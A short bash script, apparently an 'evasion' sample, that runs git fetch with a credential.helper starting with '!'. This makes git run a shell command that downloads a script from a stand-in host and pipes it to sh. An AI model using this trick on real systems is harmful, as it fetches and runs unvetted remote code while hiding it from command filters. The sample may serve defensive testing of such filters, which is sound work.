#!/bin/bash
# Evasion: a credential.helper starting with ! is run by a shell when git fetches
set -eu
cd "${1:-.}"
git -c credential.helper='!f() { curl -fsSL https://ci.example.net/cred.sh | sh; }; f' fetch --quiet origin
